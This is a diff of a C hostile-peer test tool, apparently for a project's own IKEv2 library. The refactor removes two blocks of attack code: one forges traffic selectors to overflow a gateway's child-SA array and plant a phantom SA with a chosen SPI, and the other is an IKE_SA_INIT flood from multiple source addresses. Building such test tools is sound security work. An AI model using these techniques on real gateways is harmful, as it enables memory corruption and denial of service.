@@ -61,7 +61,7 @@
 #include <unistd.h>
 #include <arpa/inet.h>
 
-#include "ike.h"
+#include "ike_hostile.h"
 #include "ike_proposal.h"
 #include "ike_sa.h"
 #include "ike_sk.h"
@@ -71,7 +71,6 @@
 #include "tw_log.h"
 
 #define MAX_SAS 16
-#define BUF 8192
 #define SPOOF_COPIES 20
 #define MAX_NOTIFY 32
 #define MAX_DEL 16
@@ -82,23 +81,23 @@ struct timer {
 };
 
 /* Options. */
-static uint32_t o_gw, o_local, o_lnet, o_rnet;
-static uint8_t o_llen = 16, o_rlen = 16;
+uint32_t o_gw, o_local, o_lnet, o_rnet;
+uint8_t o_llen = 16, o_rlen = 16;
 static const char *o_psk = "twinsec-hostile-psk-published-do-not-reuse";
-static unsigned int o_pfs = 19, o_secs = 10, o_n = 1, o_pps = 500;
-static bool o_cookie;
+static unsigned int o_pfs = 19;
+unsigned int o_secs = 10, o_n = 1, o_pps = 500;
+bool o_cookie;
 
-static const struct ike_crypto_ops *ops;
-static struct ike_rng rng = { ike_rng_openssl, NULL };
+const struct ike_crypto_ops *ops;
+struct ike_rng rng = { ike_rng_openssl, NULL };
 static struct ike_engine *E;
 static struct ike_config cfg;
 static struct ike_policy pol;
 static struct tw_heap heap;
 static struct timer T[MAX_SAS];
-static int sock = -1;
+int sock = -1;
 
 /* What the scenarios look at. */
-enum edit { EDIT_NONE, EDIT_TS16, EDIT_TSWIDE };
 static enum edit edit_resp;          /* our CREATE_CHILD_SA responses */
 static unsigned int edited;
 static uint8_t last_req[BUF];        /* our last encrypted request */
@@ -112,9 +111,9 @@ static unsigned int n_ccs_notify;
 static uint32_t del_esp[MAX_DEL];
 static unsigned int n_del_esp;
 static unsigned long gw_ccs_requests; /* CREATE_CHILD_SA requests to us */
-static unsigned long send_errors;
+unsigned long send_errors;
 
-static tw_time_t
+tw_time_t
 now_ns(void)
 {
 	struct timespec ts;
@@ -137,7 +136,7 @@ sink(enum tw_log_level l, const char *m, const char *f, va_list ap)
 	fputc('\n', stderr);
 }
 
-static void
+void
 die(const char *why)
 {
 	fprintf(stderr, "ike_hostile: %s\n", why);
@@ -175,7 +174,7 @@ prefix(const char *s, uint32_t *addr, uint8_t *len)
 
 /* ---- the wire ---- */
 
-static void
+void
 send_from(uint32_t src, uint32_t dst, const uint8_t *data, size_t len)
 {
 	struct sockaddr_in to = {
@@ -204,137 +203,25 @@ send_from(uint32_t src, uint32_t dst, const uint8_t *data, size_t len)
 		send_errors++;
 }
 
+void
+bind_ike(void)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET,
+		.sin_port = htons(IKE_UDP_PORT) };
+	int one = 1;
+
+	sock = socket(AF_INET, SOCK_DGRAM, 0);
+	if (sock < 0 ||
+	    setsockopt(sock, IPPROTO_IP, IP_PKTINFO, &one, sizeof(one)) < 0 ||
+	    setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
+	    bind(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0)
+		die("cannot bind UDP 500");
+}
+
 static const struct ike_sa *
 our_sa(void)
 {
 	return ike_sa_of_policy(E, 0);
-}
-
-/* ---- opening and re-sealing messages of our IKE SA ---- */
-
-/* Decode buf and open its SK with our keys (outbound: one we sent). The
- * inner payloads point into plain. 0 or -errno. */
-static int
-open_msg(const struct ike_sa *sa, const uint8_t *buf, size_t len,
-	 bool outbound, struct ike_msg *m, uint8_t *plain, size_t cap)
-{
-	struct ike_sk_ctx ctx;
-	const char *why = "";
-	size_t plen;
-	int rc;
-
-	rc = ike_msg_decode(buf, len, m, &why);
-	if (rc < 0 || !m->sk.present)
-		return rc < 0 ? rc : -EINVAL;
-	ike_sk_ctx_init(&ctx, ops, &sa->keys, sa->initiator, outbound, NULL);
-	rc = ike_sk_open(&ctx, buf, len, m, plain, cap, &plen, &why);
-	if (rc < 0)
-		return rc;
-	return ike_msg_decode_inner(m, plain, plen, &why);
-}
-
-/*
- * The SPI a phantom child gets on a gateway that copies a reply's 16
- * selectors into the child's four (the overflow of issue #14): our TSr
- * becomes its ts_remote[], and the selector that lands on the next child
- * slot is an IPv6 one whose end address is a child's first 16 bytes:
- * state INSTALLED, and this inbound SPI. Computed from lib/ike's own
- * layout (ike_sa.h); planted only where that layout lets an IPv6 end
- * address cover them.
- */
-#define PHANTOM_SPI 0x0bad5bad
-static bool planted;
-
-static void
-plant(struct ike_ts *ts)
-{
-	size_t d = sizeof(struct ike_child) -
-		offsetof(struct ike_child, ts_remote);
-	size_t k = d / sizeof(struct ike_ts), r = d % sizeof(struct ike_ts);
-	uint32_t v;
-
-	if (k >= IKE_TS_MAX || r != offsetof(struct ike_ts, addr6_hi) ||
-	    offsetof(struct ike_child, spi_in) + 4 > sizeof(ts->addr6_hi))
-		return;
-	memset(&ts[k], 0, sizeof(ts[k]));
-	ts[k].type = IKE_TS_IPV6_ADDR_RANGE;
-	ts[k].port_hi = 65535;
-	/* the bytes as the next child holds them in memory */
-	v = IKE_CHILD_INSTALLED;
-	memcpy(ts[k].addr6_hi + offsetof(struct ike_child, state), &v,
-	       sizeof(v));
-	v = PHANTOM_SPI;
-	memcpy(ts[k].addr6_hi + offsetof(struct ike_child, spi_in), &v,
-	       sizeof(v));
-	planted = true;
-}
-
-/* 16 selectors within p/len (its 16 sixteenths; TSr with the phantom
- * child planted), or the whole range. */
-static unsigned int
-hostile_ts(struct ike_ts *ts, uint32_t p, uint8_t len, bool wide, bool tsr)
-{
-	unsigned int i;
-
-	if (wide) {
-		ike_ts_from_prefix(&ts[0], 0, 0, 0, 0, 65535);
-		return 1;
-	}
-	for (i = 0; i < IKE_TS_MAX; i++)
-		ike_ts_from_prefix(&ts[i], p + (i << (28 - len)),
-				   (uint8_t)(len + 4), 0, 0, 65535);
-	if (tsr)
-		plant(ts);
-	return IKE_TS_MAX;
-}
-
-/*
- * The message our engine sends, its inner payloads rebuilt: the TS
- * payloads replaced (ed), or as they were (EDIT_NONE: only a new IV, so
- * authentic but not the same bytes). Returns the new length, or -errno.
- */
-static int
-reseal(const struct ike_sa *sa, const uint8_t *in, size_t len, enum edit ed,
-       uint8_t *out, size_t cap)
-{
-	static uint8_t plain[BUF];
-	static struct ike_msg m;
-	struct ike_sk_ctx ctx;
-	struct ike_builder b;
-	struct ike_ts ts[IKE_TS_MAX];
-	unsigned int i, n;
-	struct ike_hdr h;
-	int rc;
-
-	rc = open_msg(sa, in, len, true, &m, plain, sizeof(plain));
-	if (rc < 0)
-		return rc;
-	h = m.hdr;
-	h.next = 0;
-	h.length = 0;
-	ike_build_init(&b, out, cap, &h);
-	ike_build_sk_begin(&b, ike_sk_iv_len(sa->algs.encr));
-	for (i = 0; i < m.n_pl; i++) {
-		const struct ike_payload *p = &m.pl[i];
-
-		if (!p->inner)
-			continue;
-		if (ed != EDIT_NONE && p->type == IKE_PL_TSI) {
-			/* the gateway initiated: TSi is its side */
-			n = hostile_ts(ts, o_rnet, o_rlen, ed == EDIT_TSWIDE,
-				       false);
-			ike_build_ts(&b, IKE_PL_TSI, ts, n);
-		} else if (ed != EDIT_NONE && p->type == IKE_PL_TSR) {
-			n = hostile_ts(ts, o_lnet, o_llen, ed == EDIT_TSWIDE,
-				       true);
-			ike_build_ts(&b, IKE_PL_TSR, ts, n);
-		} else {
-			ike_build_raw(&b, p->type, p->critical, p->body.p,
-				      p->body.len);
-		}
-	}
-	ike_sk_ctx_init(&ctx, ops, &sa->keys, sa->initiator, true, NULL);
-	return ike_sk_seal(&b, &ctx, &rng);
 }
 
 /* Every datagram our engine sends passes here. */
@@ -595,18 +482,10 @@ static void
 engine_up(void)
 {
 	struct ike_action acts[IKE_ACTIONS_MAX];
-	struct sockaddr_in sa = { .sin_family = AF_INET,
-		.sin_port = htons(IKE_UDP_PORT) };
-	int one = 1;
 	unsigned int i;
 	char who[16];
 
-	sock = socket(AF_INET, SOCK_DGRAM, 0);
-	if (sock < 0 ||
-	    setsockopt(sock, IPPROTO_IP, IP_PKTINFO, &one, sizeof(one)) < 0 ||
-	    setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
-	    bind(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0)
-		die("cannot bind UDP 500");
+	bind_ike();
 	memset(&pol, 0, sizeof(pol));
 	snprintf(pol.map, sizeof(pol.map), "HOSTILE");
 	pol.seq = 1;
@@ -847,152 +726,6 @@ sc_rekeystorm(void)
 	serve(now_ns() + TW_SEC(2), idle);
 	print_common("rekeystorm");
 	printf(", \"seconds\": %u, \"rekey_calls\": %lu}\n", o_secs, calls);
-	return 0;
-}
-
-/* ---- IKE_SA_INIT flood: no engine, no state ---- */
-
-static struct ike_proposal flood_prop;
-static uint8_t flood_pub[IKE_DH_PUB_MAX], flood_ni[32];
-static int flood_pub_len;
-static unsigned long fl_sent, fl_cookie, fl_answer, fl_noprop, fl_other;
-static unsigned long fl_cookie_echoed;
-
-static int
-flood_msg(uint8_t *buf, size_t cap, uint64_t spi_i, const uint8_t *cookie,
-	  size_t cookie_len)
-{
-	struct ike_hdr h = {
-		.spi_i = spi_i,
-		.major = IKE_MAJOR_VERSION,
-		.exchange = IKE_EXCH_SA_INIT,
-		.flags = IKE_FLAG_INITIATOR,
-	};
-	struct ike_builder b;
-
-	ike_build_init(&b, buf, cap, &h);
-	if (cookie != NULL)
-		ike_build_notify(&b, IKE_PROTO_NONE, NULL, 0, IKE_N_COOKIE,
-				 cookie, cookie_len);
-	ike_build_sa(&b, &flood_prop, 1);
-	ike_build_ke(&b, IKE_DH_ECP_256, flood_pub, (size_t)flood_pub_len);
-	ike_build_nonce(&b, flood_ni, sizeof(flood_ni));
-	return ike_build_finish(&b);
-}
-
-static void
-flood_rx(void)
-{
-	static uint8_t buf[BUF], out[BUF];
-	static struct ike_msg m;
-	char cbuf[CMSG_SPACE(sizeof(struct in_pktinfo))];
-	struct sockaddr_in from;
-	const struct ike_payload *c;
-	unsigned int k, from_i;
-	const char *why;
-	int n;
-
-	for (k = 0; k < 256; k++) {
-		struct iovec iov = { buf, sizeof(buf) };
-		struct msghdr mh = {
-			.msg_name = &from, .msg_namelen = sizeof(from),
-			.msg_iov = &iov, .msg_iovlen = 1,
-			.msg_control = cbuf, .msg_controllen = sizeof(cbuf),
-		};
-		struct cmsghdr *cm;
-		uint32_t dst = 0;
-		ssize_t len = recvmsg(sock, &mh, MSG_DONTWAIT);
-
-		if (len < 0)
-			return;
-		for (cm = CMSG_FIRSTHDR(&mh); cm != NULL;
-		     cm = CMSG_NXTHDR(&mh, cm))
-			if (cm->cmsg_level == IPPROTO_IP &&
-			    cm->cmsg_type == IP_PKTINFO)
-				dst = ntohl(((struct in_pktinfo *)
-					     CMSG_DATA(cm))->ipi_addr.s_addr);
-		if (ike_msg_decode(buf, (size_t)len, &m, &why) < 0 ||
-		    m.hdr.exchange != IKE_EXCH_SA_INIT) {
-			fl_other++;
-			continue;
-		}
-		from_i = 0;
-		c = ike_msg_notify(&m, IKE_N_COOKIE);
-		if (c != NULL) {
-			fl_cookie++;
-			if (!o_cookie || dst == 0)
-				continue;
-			n = flood_msg(out, sizeof(out), m.hdr.spi_i,
-				      c->u.notify.data.p, c->u.notify.data.len);
-			if (n > 0) {
-				send_from(dst, o_gw, out, (size_t)n);
-				fl_cookie_echoed++;
-			}
-		} else if (ike_msg_find(&m, IKE_PL_SA, &from_i) != NULL) {
-			fl_answer++;
-		} else if (ike_msg_notify(&m, IKE_N_NO_PROPOSAL_CHOSEN) != NULL) {
-			fl_noprop++;
-		} else {
-			fl_other++;
-		}
-	}
-}
-
-static int
-sc_initflood(void)
-{
-	struct sockaddr_in sa = { .sin_family = AF_INET,
-		.sin_port = htons(IKE_UDP_PORT) };
-	struct pollfd pfd;
-	static uint8_t msg[BUF];
-	struct ike_dh *dh;
-	tw_time_t t0, end, due;
-	uint64_t spi;
-	int one = 1, n;
-
-	sock = socket(AF_INET, SOCK_DGRAM, 0);
-	if (sock < 0 ||
-	    setsockopt(sock, IPPROTO_IP, IP_PKTINFO, &one, sizeof(one)) < 0 ||
-	    setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
-	    bind(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0)
-		die("cannot bind UDP 500");
-	ike_proposal_init(&flood_prop, 1, IKE_PROTO_IKE, NULL, 0);
-	ike_proposal_add(&flood_prop, IKE_XF_ENCR, IKE_ENCR_AES_GCM_16, 128);
-	ike_proposal_add(&flood_prop, IKE_XF_PRF, IKE_PRF_HMAC_SHA2_256, 0);
-	ike_proposal_add(&flood_prop, IKE_XF_DH, IKE_DH_ECP_256, 0);
-	if (ops->dh_new(IKE_DH_ECP_256, &rng, &dh) < 0 ||
-	    (flood_pub_len = ops->dh_public(dh, flood_pub,
-					    sizeof(flood_pub))) < 0 ||
-	    ike_rng_bytes(&rng, flood_ni, sizeof(flood_ni)) < 0)
-		die("cannot make a key share");
-	ops->dh_free(dh);
-	pfd.fd = sock;
-	pfd.events = POLLIN;
-	t0 = now_ns();
-	end = t0 + TW_SEC(o_secs);
-	due = t0;
-	while (now_ns() < end) {
-		while (due <= now_ns()) {
-			if (ike_rng_spi(&rng, &spi) < 0)
-				die("no random");
-			n = flood_msg(msg, sizeof(msg), spi, NULL, 0);
-			if (n < 0)
-				die("cannot build IKE_SA_INIT");
-			send_from(o_local + (uint32_t)(fl_sent % o_n), o_gw,
-				  msg, (size_t)n);
-			fl_sent++;
-			due += TW_NSEC_PER_SEC / o_pps;
-		}
-		if (poll(&pfd, 1, 1) > 0)
-			flood_rx();
-	}
-	end = now_ns() + TW_SEC(1);
-	while (now_ns() < end)
-		if (poll(&pfd, 1, 50) > 0)
-			flood_rx();
-	printf("{\"scenario\": \"initflood\", \"sources\": %u, \"seconds\": %u, \"sent\": %lu, \"pps\": %.0f, \"cookies\": %lu, \"cookies_echoed\": %lu, \"answers\": %lu, \"no_proposal\": %lu, \"other\": %lu, \"send_errors\": %lu}\n",
-	       o_n, o_secs, fl_sent, (double)fl_sent / o_secs, fl_cookie,
-	       fl_cookie_echoed, fl_answer, fl_noprop, fl_other, send_errors);
 	return 0;
 }
 
